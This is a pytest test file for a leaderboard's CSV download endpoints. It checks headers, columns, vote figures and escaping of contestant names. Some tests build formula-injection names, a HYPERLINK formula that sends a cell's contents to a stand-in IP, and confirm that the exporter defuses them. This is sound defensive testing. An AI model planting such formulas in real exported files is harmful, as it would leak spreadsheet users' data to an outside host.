"""The leaderboard as files, asked over real HTTP: a program and a spreadsheet read them."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from ballots import HOSTILE, clear_order, judged, lineup_of, ran, voted
from front import front
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from private_postgres import PrivatePostgres
from served import Served

from assistant.downloads import ratings_csv
from assistant.language import texts
from assistant.leaderboard import board
from eval.records import Records

RATINGS, MATRIX = "/leaderboard.csv", "/leaderboard-matrix.csv"
ROBUSTNESS = "/leaderboard-robustness.csv"
# Programs rely on these names: they change with their users or not at all.
RATINGS_HEAD = (
    "contestant,name,developer,best_rank,worst_rank,rating,rating_low,rating_high,votes,wins,"
    "losses,ties,readability_mean,readability_ratings,structure_mean,structure_ratings,"
    "comments_mean,comments_ratings,ran_count,ran_total,ran_share,ran_low,ran_high,passed_count,"
    "passed_total,passed_share,passed_low,passed_high"
)
MATRIX_HEAD = "contestant,against,wins,losses,ties,share"
ROBUSTNESS_HEAD = "figure,about,value,low,high,votes"
NAMES = {"alpha": "Model-alpha", "beta": "Model-beta", "gamma": "Model-gamma"}
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.fixture
def records(tmp_path: Path) -> Iterator[Records]:
    opened = Records.open(f"sqlite:///{tmp_path}/leitai.db")
    yield opened
    opened.close()


Ask = Callable[..., tuple[int, dict[str, str], bytes]]


@pytest.fixture
def ask(records: Records, tmp_path: Path) -> Iterator[Ask]:
    """Ask the gateway of three contestants."""
    with front(lineup_of(NAMES), records, tmp_path) as served:
        yield served.request


def lines_of(body: bytes) -> list[dict[str, str]]:
    """The lines as a program reads them, by column."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def by_name(body: bytes) -> dict[str, dict[str, str]]:
    return {line["contestant"]: line for line in lines_of(body)}


# -- over HTTP ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "head"),
    [(RATINGS, RATINGS_HEAD), (MATRIX, MATRIX_HEAD), (ROBUSTNESS, ROBUSTNESS_HEAD)],
)
def test_a_file_says_what_it_is_and_is_never_kept_by_a_cache(ask: Ask, path, head) -> None:
    status, headers, body = ask(path)
    assert status == 200
    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == f'attachment; filename="leitai-{path[1:]}"'
    assert headers["cache-control"] == "no-store"
    assert headers["x-content-type-options"] == "nosniff"
    assert int(headers["content-length"]) == len(body)
    assert body.startswith(b"\xef\xbb\xbf")  # or Excel misreads Chinese
    assert body.decode("utf-8-sig").splitlines()[0] == head


def test_the_robustness_file_has_what_the_panel_shows(ask: Ask, records: Records) -> None:
    clear_order(records, tuple(NAMES))
    lines = lines_of(ask(ROBUSTNESS)[2])
    figures = {line["figure"] for line in lines}
    assert {"flip_turned", "flip_dropped", "flip_added", "without_top_1", "lead"} <= figures
    shares = {line["about"]: line["value"] for line in lines if line["figure"] == "share"}
    expected = ("leaks", "voids", "ties", "both_bad", "interrupted")
    assert shares == dict.fromkeys(expected, "0.0")
    assert sum(int(line["value"]) for line in lines if line["figure"] == "votes_on") == 36
    assert not any("voter" in cell for line in lines for cell in line.values())


def test_a_file_is_about_the_votes_that_its_address_names(ask: Ask, records: Records) -> None:
    clear_order(records, tuple(NAMES))
    every, free = by_name(ask(RATINGS)[2]), by_name(ask(f"{RATINGS}?kind=free")[2])
    assert every["alpha"]["rating"] == free["alpha"]["rating"]
    modelled = by_name(ask(f"{RATINGS}?ties=davidson")[2])
    assert modelled["alpha"]["rating"] != every["alpha"]["rating"]
    for path in (RATINGS, MATRIX, ROBUSTNESS):
        status, headers, body = ask(f"{path}?kind=problem")
        assert (status, headers["content-type"]) == (404, "text/plain; charset=utf-8")
        assert body.decode() == texts("en")("leaderboard.no_file")


def test_the_real_site_has_both_files(app: Served) -> None:
    assert app.request(RATINGS)[2].decode("utf-8-sig").splitlines()[0] == RATINGS_HEAD
    assert app.request(MATRIX)[2].decode("utf-8-sig").splitlines()[0] == MATRIX_HEAD


def test_the_pages_of_the_site_link_the_files(app: Served) -> None:
    page = app.request("/leaderboard")[2].decode()
    assert RATINGS in page
    assert MATRIX in page


def test_without_votes_each_contestant_has_a_line_and_no_figures(ask: Ask) -> None:
    lines = by_name(ask(RATINGS)[2])
    assert set(lines) == set(NAMES)
    for key, value in lines["alpha"].items():
        if key in ("contestant", "name", "developer"):
            assert value
        elif re.search("votes|wins|losses|ties|ratings|count|total", key):
            assert value == "0", key
        else:
            assert value == "", key
    assert lines_of(ask(MATRIX)[2]) == []


def test_one_vote_has_points_a_place_in_both_files_and_no_interval(ask: Ask, records) -> None:
    voted(records, 1, "ann", ("alpha", "beta"), "a")
    alpha = by_name(ask(RATINGS)[2])["alpha"]
    assert float(alpha["rating"]) > 1000
    assert (alpha["rating_low"], alpha["rating_high"]) == ("", "")
    assert (alpha["best_rank"], alpha["worst_rank"]) == ("1", "2")
    assert (alpha["votes"], alpha["wins"], alpha["losses"], alpha["ties"]) == ("1", "1", "0", "0")
    assert (alpha["structure_mean"], alpha["structure_ratings"]) == ("4.0", "1")
    assert [list(line.values()) for line in lines_of(ask(MATRIX)[2])] == [
        ["alpha", "beta", "1", "0", "0", "1.0"],
        ["beta", "alpha", "0", "1", "0", "0.0"],
    ]


def test_a_vote_is_in_the_next_file(ask: Ask, records) -> None:
    before = ask(RATINGS)[2]
    clear_order(records, ("beta", "alpha", "gamma"))
    after = ask(RATINGS)[2]
    assert after != before
    assert [line["contestant"] for line in lines_of(after)] == ["beta", "alpha", "gamma"]


def test_what_code_did_stands_with_its_interval(ask: Ask, records) -> None:
    battle = voted(records, 1, "ann", ("alpha", "beta"), "a")
    ran(records, battle, "a", "OK")
    ran(records, battle, "b", "INFRA")
    judged(records, battle, "a", "WA")
    lines = by_name(ask(RATINGS)[2])
    alpha, beta = lines["alpha"], lines["beta"]
    assert (alpha["ran_count"], alpha["ran_total"], alpha["ran_share"]) == ("1", "1", "1.0")
    assert 0 < float(alpha["ran_low"]) < float(alpha["ran_high"]) <= 1
    assert (alpha["passed_count"], alpha["passed_total"]) == ("0", "1")
    assert (beta["ran_total"], beta["ran_share"]) == ("0", "")


def test_the_head_alone_tells_the_files_length(ask: Ask) -> None:
    status, headers, _ = ask(RATINGS, method="HEAD")
    assert status == 200
    assert headers["content-length"] == str(len(ask(RATINGS)[2]))


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE"])
def test_files_are_only_read(ask: Ask, method: str) -> None:
    assert ask(RATINGS, method=method, body=b"x")[0] == 405


@pytest.mark.parametrize("path", ["/leaderboard.csv/", "/leaderboard.tsv", "/Leaderboard.csv"])
def test_there_is_no_other_file(ask: Ask, path: str) -> None:
    assert ask(path)[0] == 404


def test_while_the_database_is_away_a_sentence_says_so_in_the_persons_language(
    require, tmp_path: Path
) -> None:
    require("postgres")
    server = PrivatePostgres().start()
    try:
        records = Records.open(server.url(server.create()), patience=0.5)
        with front(lineup_of(NAMES), records, tmp_path) as served:
            assert served.request(RATINGS)[0] == 200
            server.stop()
            for language in ("en", "zh"):
                status, headers, body = served.request(
                    MATRIX, headers={"Accept-Language": language}
                )
                assert status == 503
                assert headers["content-type"] == "text/plain; charset=utf-8"
                assert "content-disposition" not in headers
                assert body.decode() == texts(language)("leaderboard.away")
            server.start()
            assert served.request(RATINGS)[0] == 200
        records.close()
    finally:
        server.remove()


# -- names that nobody chose with a spreadsheet in mind ----------------------------------


def names_in(records: Records, names: Mapping[str, str]) -> list[str]:
    body = ratings_csv(board(lineup_of(names, developer=next(iter(names.values()))), records))
    lines = by_name(body)
    assert all(line["developer"] == lines[next(iter(names))]["name"] for line in lines.values())
    return [lines[name]["name"] for name in names]


@pytest.mark.parametrize(
    "name",
    ['A "quoted" one', "comma, and; semicolon", "two\nlines", "two\r\nlines", HOSTILE, "擂台 Qwen"],
)
def test_every_name_comes_back_from_its_file(records, name: str) -> None:
    assert names_in(records, {"alpha": name}) == [name]


@pytest.mark.parametrize("before", ["", " ", "\t", "\r\n", "\ufeff", "\u200b", "\u3000"])
@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_name_that_would_be_a_formula_stays_a_text(records, start: str, before: str) -> None:
    name = f'{before}{start}HYPERLINK("http://192.0.2.1/?"&A1)'
    assert names_in(records, {"alpha": name}) == [f"'{name}"]


def test_a_name_with_a_sign_inside_is_left_alone(records) -> None:
    assert names_in(records, {"alpha": "GLM-4 + tools @home"}) == ["GLM-4 + tools @home"]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1))
def test_no_name_starts_a_formula_or_moves_a_column(records, name: str) -> None:
    data = board(lineup_of({"alpha": name}), records)
    (line,) = lines_of(ratings_csv(data))
    assert line["name"].removeprefix("'") == name.removeprefix("'")
    assert not line["name"].strip().startswith(FORMULA_STARTS)
    assert (line["contestant"], line["votes"]) == ("alpha", "0")
    assert None not in line  # a cell too many
